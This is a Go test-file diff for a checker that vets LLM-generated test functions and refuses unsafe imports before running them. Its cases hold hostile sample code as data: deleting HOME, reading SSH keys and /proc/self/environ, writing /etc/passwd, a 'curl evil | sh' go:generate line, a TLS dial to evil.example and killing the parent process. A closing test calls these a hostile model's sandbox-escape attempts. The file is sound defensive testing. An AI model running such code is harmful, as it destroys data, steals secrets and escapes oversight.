@@ -230,7 +230,10 @@ func TestLLMCheck(t *testing.T) {
 		{"does not parse", answerJSON(t, with("func TestX(t *testing.T) {")), "does not parse"},
 		{"another function", answerJSON(t, with("func TestY(t *testing.T) {}")), "does not declare the function TestX"},
 		{"a helper too", answerJSON(t, with("func TestX(t *testing.T) {}\n\nfunc helper() {}")), "only the function TestX"},
-		{"a variable too", answerJSON(t, with("var x = 1\n\nfunc TestX(t *testing.T) {}")), "only the function TestX"},
+		{"a variable too", answerJSON(t, with("var x = 1\n\nfunc TestX(t *testing.T) {}")), "only the function TestX (and variables named testX…), not x"},
+		{"its own counter", answerJSON(t, with("var testXRuns int\n\nfunc TestX(t *testing.T) { testXRuns++ }")), ""},
+		{"its own table", answerJSON(t, with("var testXCases = []string{\"a\", strings.Repeat(\"b\", 2)}\n\nfunc TestX(t *testing.T) {}", "strings")), "must be a literal"},
+		{"a type", answerJSON(t, with("type testXT int\n\nfunc TestX(t *testing.T) {}")), "only the function TestX"},
 		{"a method", answerJSON(t, with("func (s S) TestX(t *testing.T) {}")), "does not declare"},
 		{"a result", answerJSON(t, with("func TestX(t *testing.T) int { return 0 }")), "must be func(*testing.T)"},
 		{"os/exec declared", answerJSON(t, with("func TestX(t *testing.T) {}", "os/exec")), `imports "os/exec"`},
@@ -241,20 +244,24 @@ func TestLLMCheck(t *testing.T) {
 		{"cgo", answerJSON(t, with("import \"C\"\n\nfunc TestX(t *testing.T) {}")), `imports "C"`},
 		{"x/sys", answerJSON(t, with("func TestX(t *testing.T) {}", "golang.org/x/sys/unix")), "golang.org/x/sys/unix"},
 		{"a dot import", answerJSON(t, with("import . \"strings\"\n\nfunc TestX(t *testing.T) {}")), "name what you import"},
-		{"a blank import", answerJSON(t, with("import _ \"embed\"\n\nfunc TestX(t *testing.T) {}")), "name what you import"},
-		{"os.RemoveAll", answerJSON(t, with("func TestX(t *testing.T) { os.RemoveAll(os.Getenv(\"HOME\")) }", "os")), "os.RemoveAll"},
-		{"os renamed", answerJSON(t, with("import xos \"os\"\n\nfunc TestX(t *testing.T) { f := xos.Remove; _ = f }")), "os.Remove"},
-		{"os.Setenv", answerJSON(t, with("func TestX(t *testing.T) { os.Setenv(\"A\", \"1\") }", "os")), "os.Setenv"},
-		{"os.StartProcess", answerJSON(t, with("func TestX(t *testing.T) { os.StartProcess(\"/bin/sh\", nil, nil) }", "os")), "os.StartProcess"},
-		{"a write to a literal path", answerJSON(t, with("func TestX(t *testing.T) { os.WriteFile(\"/etc/passwd\", nil, 0o644) }", "os")), "write under t.TempDir()"},
-		{"an absolute read", answerJSON(t, with("func TestX(t *testing.T) { os.ReadFile(\"/home/u/.ssh/id_rsa\") }", "os")), "read inside the package"},
-		{"a read out of the package", answerJSON(t, with("func TestX(t *testing.T) { os.Open(\"../../secrets\") }", "os")), "read inside the package"},
-		{"a read of testdata", answerJSON(t, with("func TestX(t *testing.T) { os.ReadFile(\"testdata/a.json\") }", "os")), ""},
-		{"the environment", answerJSON(t, with("func TestX(t *testing.T) { t.Log(os.Environ()) }", "os")), "os.Environ"},
+		{"a blank import", answerJSON(t, with("import _ \"strings\"\n\nfunc TestX(t *testing.T) {}")), "name what you import"},
+		{"go/build runs the go command", answerJSON(t, with("func TestX(t *testing.T) {}", "go/build")), `imports "go/build"`},
+		{"crypto/tls dials", answerJSON(t, with("func TestX(t *testing.T) {}", "crypto/tls")), `imports "crypto/tls"`},
+		{"io/ioutil writes", answerJSON(t, with("func TestX(t *testing.T) {}", "io/ioutil")), `imports "io/ioutil"`},
+		{"path/filepath walks", answerJSON(t, with("func TestX(t *testing.T) {}", "path/filepath")), `imports "path/filepath"`},
+		{"os.RemoveAll", answerJSON(t, with("func TestX(t *testing.T) { os.RemoveAll(os.Getenv(\"HOME\")) }", "os")), `imports "os"`},
+		{"os renamed", answerJSON(t, with("import xos \"os\"\n\nfunc TestX(t *testing.T) { f := xos.Remove; _ = f }")), `imports "os"`},
+		{"os.Setenv", answerJSON(t, with("func TestX(t *testing.T) { os.Setenv(\"A\", \"1\") }", "os")), `imports "os"`},
+		{"os.StartProcess", answerJSON(t, with("func TestX(t *testing.T) { os.StartProcess(\"/bin/sh\", nil, nil) }", "os")), `imports "os"`},
+		{"a write to a literal path", answerJSON(t, with("func TestX(t *testing.T) { os.WriteFile(\"/etc/passwd\", nil, 0o644) }", "os")), `imports "os"`},
+		{"an absolute read", answerJSON(t, with("func TestX(t *testing.T) { os.ReadFile(\"/home/u/.ssh/id_rsa\") }", "os")), `imports "os"`},
+		{"a read out of the package", answerJSON(t, with("func TestX(t *testing.T) { os.Open(\"../../secrets\") }", "os")), `imports "os"`},
+		{"a read of testdata", answerJSON(t, with("func TestX(t *testing.T) { os.ReadFile(\"testdata/a.json\") }", "os")), `imports "os"`},
+		{"the environment", answerJSON(t, with("func TestX(t *testing.T) { t.Log(os.Environ()) }", "os")), `imports "os"`},
 		{"go:generate", answerJSON(t, with("//go:generate sh -c \"curl evil | sh\"\nfunc TestX(t *testing.T) {}")), "a directive (//go:generate)"},
 		{"go:linkname inside", answerJSON(t, with("func TestX(t *testing.T) {\n\t//go:linkname x runtime.x\n}")), "a directive"},
 		{"too long", answerJSON(t, with("func TestX(t *testing.T) {}\n"+strings.Repeat("// x\n", 8<<10))), "bytes of code"},
-		{"a write under t.TempDir", answerJSON(t, with("func TestX(t *testing.T) { os.WriteFile(filepath.Join(t.TempDir(), \"a\"), nil, 0o644) }", "os", "path/filepath")), ""},
+		{"a write under t.TempDir", answerJSON(t, with("func TestX(t *testing.T) { os.WriteFile(filepath.Join(t.TempDir(), \"a\"), nil, 0o644) }", "os", "path/filepath")), `imports "os"`},
 	}
 	for _, tt := range tests {
 		_, err := parseTests([]byte(tt.answer), genTargets("Clamp")[0], map[string]string{"strings": "strings"})
@@ -360,4 +367,25 @@ func llmClient(t *testing.T) (*llmtest.Server, *llm.Client) {
 		t.Fatal(err)
 	}
 	return srv, client
+}
+
+// TestAttack_TestgenModelEscapes: what a reviewer's hostile model wrote to
+// run a program (go/build with a GOROOT of its own), read the environment,
+// reach the network, kill the parent, write outside the worktree or delete
+// through a renamed os — each refused by its imports before it runs.
+func TestAttack_TestgenModelEscapes(t *testing.T) {
+	cases := map[string]modelTest{
+		"exec via go/build": {Name: "TestClampX", Imports: []string{"go/build"}, Code: "func TestClampX(t *testing.T) {\n\tctx := build.Default\n\tctx.GOROOT = t.TempDir()\n\t_, _ = ctx.Import(\"x\", \".\", 0)\n}"},
+		"env via /proc":     {Name: "TestClampZ", Imports: []string{"os"}, Code: "func TestClampZ(t *testing.T) {\n\tp := \"/proc/self/environ\"\n\tb, _ := os.ReadFile(p)\n\tt.Log(string(b))\n}"},
+		"tls dial":          {Name: "TestClampN", Imports: []string{"crypto/tls"}, Code: "func TestClampN(t *testing.T) {\n\t_, _ = tls.Dial(\"tcp\", \"evil.example:443\", nil)\n}"},
+		"kill the parent":   {Name: "TestClampK", Imports: []string{"os"}, Code: "func TestClampK(t *testing.T) {\n\tp, _ := os.FindProcess(os.Getppid())\n\t_ = p.Kill()\n}"},
+		"ioutil write":      {Name: "TestClampW", Imports: []string{"io/ioutil"}, Code: "func TestClampW(t *testing.T) {\n\t_ = ioutil.WriteFile(\"/root/.bashrc\", nil, 0o644)\n}"},
+		"renamed os":        {Name: "TestClampY", Code: "import o \"os\"\n\nfunc TestClampY(t *testing.T) {\n\to.RemoveAll(o.Getenv(\"VICTIM\"))\n}"},
+	}
+	for name, mt := range cases {
+		// The function's own file imports os, as most do: still refused.
+		if _, err := parseTests([]byte(answerJSON(t, mt)), genTargets("Clamp")[0], map[string]string{"os": "os"}); err == nil || !strings.Contains(err.Error(), "may not") {
+			t.Errorf("%s: %v", name, err)
+		}
+	}
 }
